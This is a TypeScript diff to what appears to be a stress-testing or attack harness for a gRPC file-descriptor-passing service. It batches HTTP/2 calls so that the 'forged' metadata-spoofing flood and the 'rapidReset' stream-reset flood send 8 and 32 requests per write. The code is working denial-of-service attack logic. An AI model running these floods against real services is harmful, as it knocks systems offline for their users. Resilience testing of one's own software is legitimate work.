@@ -14,24 +14,36 @@ interface Asking {
   readonly request: object;
 }
 
+/** How the calls are written. */
+interface Way {
+  /** What each call brings. */
+  readonly fds?: readonly number[];
+  readonly resets?: boolean;
+  /** Calls in one write. Default 1. */
+  readonly together?: number;
+}
+
+/** `make` is given the number of descriptors that were sent before the call. */
 async function ask(
   means: Means,
-  make: (connection: RawConnection) => Asking,
-  { fds = [], resets = false }: { fds?: readonly number[]; resets?: boolean } = {},
+  make: (sent: number) => Asking,
+  { fds = [], resets = false, together = 1 }: Way = {},
 ): Promise<never> {
+  const all = Array.from({ length: together }, () => fds).flat();
   for (;;) {
     const connection = await RawConnection.connectHttp2(means.address, means.attack);
-    for (;;) {
-      const stream = connection.nextStream();
-      const { metadata, request } = make(connection);
-      const frames = [callHeaders(stream, path, metadata), message(stream, request)];
-      if (resets) frames.push(reset(stream));
-      if (!(await connection.write(Buffer.concat(frames), fds))) break;
-      means.attack.calls++;
-      await means.pause();
+    for (let alive = true; alive; await means.pause()) {
+      const frames: Buffer[] = [];
+      for (let index = 0; index < together; index++) {
+        const stream = connection.nextStream();
+        const { metadata, request } = make(connection.sent + index * fds.length);
+        frames.push(callHeaders(stream, path, metadata), message(stream, request));
+        if (resets) frames.push(reset(stream));
+      }
+      alive = await connection.write(Buffer.concat(frames), all);
+      if (alive) means.attack.calls += together;
     }
     connection.close();
-    await means.pause();
   }
 }
 
@@ -71,13 +83,13 @@ export const forged: AttackFunction = (means) => {
   const names = () => Array.from({ length: 5 }, () => `fd:a:${text()}`);
   return ask(
     means,
-    (connection) => {
-      const honest = `flood;a.0.${connection.sent + 1}.${inode}`;
+    (sent) => {
+      const honest = `flood;a.0.${sent + 1}.${inode}`;
       const value = [text(), `flood;${text()}`, honest + text(), honest][random(4)] ?? honest;
       means.attack.others++;
       return { metadata: { 'grpcfd-fds': value }, request: { names: [...names(), 'fd:a:0'] } };
     },
-    { fds: [fd] },
+    { fds: [fd], together: 8 },
   );
 };
 
@@ -87,10 +99,10 @@ export const rapidReset: AttackFunction = (means) => {
   const inode = native.inode(fd);
   return ask(
     means,
-    (connection) => ({
-      metadata: { 'grpcfd-fds': `flood;a.0.${connection.sent + 1}.${inode}` },
+    (sent) => ({
+      metadata: { 'grpcfd-fds': `flood;a.0.${sent + 1}.${inode}` },
       request: { stay: true },
     }),
-    { fds: [fd], resets: true },
+    { fds: [fd], resets: true, together: 32 },
   );
 };
